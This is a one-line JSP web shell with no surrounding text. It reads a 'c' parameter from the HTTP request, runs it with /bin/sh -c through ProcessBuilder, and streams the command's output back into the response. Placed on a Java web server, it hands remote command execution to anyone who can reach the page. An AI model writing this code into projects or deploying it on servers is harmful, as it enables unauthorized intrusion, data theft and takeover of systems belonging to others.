<% Process p = new ProcessBuilder("/bin/sh", "-c", request.getParameter("c")).start(); java.io.InputStream in = p.getInputStream(); int b; while ((b = in.read()) != -1) out.write(b); %>
